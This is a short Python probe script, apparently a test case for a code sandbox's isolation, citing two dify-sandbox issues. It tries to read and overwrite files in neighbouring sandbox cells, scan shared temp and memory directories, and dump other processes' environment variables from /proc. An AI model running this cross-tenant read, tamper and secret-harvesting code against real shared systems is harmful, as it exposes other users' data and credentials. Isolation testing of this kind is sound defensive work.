# tries: reads the files, shared memory and environment of the neighbouring cell
# seen-in: dify-sandbox issues 225 and 253
# walls: mount, neighbour
import glob, os
# With reduced isolation all cells share one file tree, and the neighbour's directories are beside its own.
ground = os.path.join(os.environ["TMPDIR"], "..", "..")
own = os.environ["TMPDIR"].split("/")[-2]
numbers = range(int(own) - 100, int(own) + 100) if own.isdigit() else range(100)
beside = [f"{ground}/{cell}/{place}/neighbour" for cell in numbers for place in ("tmp", "work", "home")]
for path in beside + glob.glob(f"{ground}/*/*/neighbour"):
    try: print(path, open(path, "rb").read(4096))
    except OSError: pass
    try: open(path, "r+b").write(b"changed")
    except OSError: pass
for pattern in ("/tmp/*", "/dev/shm/*", "/sandbox/*", "/proc/[0-9]*/root/tmp/*", "/proc/[0-9]*/root/dev/shm/*", "/proc/[0-9]*/environ", "/proc/[0-9]*/cwd/*", "/mnt/*", "/mnt/tmp/*"):
    for path in glob.glob(pattern):
        try: print(path, open(path, "rb").read(4096))
        except OSError: pass
for pid in range(1, 200):
    for name in ("environ", "root/tmp/neighbour", "root/dev/shm/neighbour"):
        try: print(open(f"/proc/{pid}/{name}", "rb").read(4096))
        except OSError: pass
print("attempted")
